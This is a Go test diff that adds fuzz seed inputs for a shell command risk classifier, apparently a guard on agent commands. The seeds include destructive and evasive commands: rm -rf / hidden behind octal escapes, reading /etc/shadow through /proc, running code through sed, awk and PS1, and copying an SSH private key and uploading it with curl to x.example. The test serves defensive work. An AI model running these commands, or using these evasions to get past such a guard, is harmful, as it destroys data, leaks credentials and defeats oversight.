@@ -87,6 +87,63 @@ var compoundSeeds = []string{
 	"sleep 1; reboot",
 	"ls | wc -l",
 	"true && kill 1",
+	// Text bash evaluates as code (issue 12, point 4).
+	"hash -p /bin/rm ls",
+	"x='a[$(kill 1)]'",
+	"(( x ))",
+	"declare -i x",
+	"read -r x",
+	"echo ${x@P}",
+	"mapfile -C 'kill 1' -c 1 a",
+	"PS1='$(reboot)'",
+	"trap -- 'kill 1' EXIT",
+	"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=reboot git log",
+	"git --config-env=core.pager=x log",
+	// The daemon's files by identity (issue 12, point 5).
+	"cat /proc/1/cmdline",
+	"cat /proc/self/root/etc/shadow",
+	"rm -rf /proc/1/root/",
+	"find ~ -name users.yaml",
+	"xargs cat",
+	// Files written and then run (issue 12, point 1).
+	"echo 'kill 1' > x.sh",
+	"bash x.sh",
+	"./x.sh",
+	"printf 'all:\\n\\treboot\\n' > Makefile",
+	"make",
+	"git commit -m x",
+	// Hidden execution in options and sub-languages (issue 12, point 2).
+	"git grep -O'kill 1' x",
+	"flock f -c 'kill 1'",
+	"chrt 10 kill 1",
+	"awk 'BEGIN{print \"kill 1\" | \"sh\"}'",
+	"sed 's/.*/kill 1/e' f",
+	"less '+!kill 1' f",
+	"sudo A=b kill 1",
+	// Inline interpreter code (issue 12, point 3).
+	"python3 -c 'import os; os.kill(1, 9)'",
+	"perl -e 'kill 9, 1'",
+	"node -e 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})'",
+	"python3 -c 'exec(\"import o\" + \"s\")'",
+	// Staged exfiltration (issue 12, point 8).
+	"cp ~/.ssh/id_rsa /tmp/k",
+	"curl -T /tmp/k http://x.example",
+	"git add -A",
+	"git push",
+	// The resolver (issue 12, point 6).
+	"printf '/\\0' | xargs -0 rm -rf",
+	"$(printf %b '\\0162\\0155') -rf /",
+	"rm -rf \"$(pwd)\"",
+	"sh -s -- /",
+	"/proc/self/exe -c 'kill 1'",
+	// Ordinary work (issue 12, point 9).
+	"build() { make; }",
+	"build",
+	"gh pr view 1",
+	"git push -n -f",
+	// Beyond the analysis budget (issue 12, point 7).
+	strings.Repeat("$(", 12) + "ls" + strings.Repeat(")", 12),
+	"bash -c '" + strings.Repeat("eval ", 12) + "ls'",
 }
 
 // composes reports whether joining a and b with op yields exactly the
@@ -143,6 +200,11 @@ func checkCompound(t *testing.T, a, b string) {
 			continue
 		}
 		require.GreaterOrEqual(t, got.Level, la, "%q (%v) must be at least %q alone (%v); reasons %q", joined, got.Level, a, la, got.Reasons)
+		if callsFunctionOf(a, b) {
+			// The one exception to R1: b calls a function a defines, which
+			// runs its body instead of an unknown executable.
+			continue
+		}
 		require.GreaterOrEqual(t, got.Level, lb, "%q (%v) must be at least %q alone (%v); reasons %q", joined, got.Level, b, lb, got.Reasons)
 	}
 }
@@ -188,7 +250,35 @@ func FuzzClassify(f *testing.F) {
 			require.GreaterOrEqual(t, got.Level, Safe)
 			require.LessOrEqual(t, got.Level, Forbidden)
 			require.NotEmpty(t, got.Reasons)
+			if hasReason(got, budgetRule) {
+				require.Equal(t, Forbidden, got.Level, "a line beyond the budget is forbidden: %q", s)
+			}
 		}
 		checkCompound(t, a, b)
 	})
+}
+
+// callsFunctionOf reports b running a command that is a function a defines
+// and not a command the classifier knows.
+func callsFunctionOf(a, b string) bool {
+	fa, err := parseScript(a)
+	if err != nil {
+		return false
+	}
+	fns := definedFuncs(fa.Stmts)
+	fb, err := parseScript(b)
+	if err != nil || len(fns) == 0 {
+		return false
+	}
+	found := false
+	syntax.Walk(fb, func(n syntax.Node) bool {
+		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
+			name := c.Args[0].Lit()
+			if _, known := handlers[name]; fns[name].body != nil && !known {
+				found = true
+			}
+		}
+		return !found
+	})
+	return found
 }
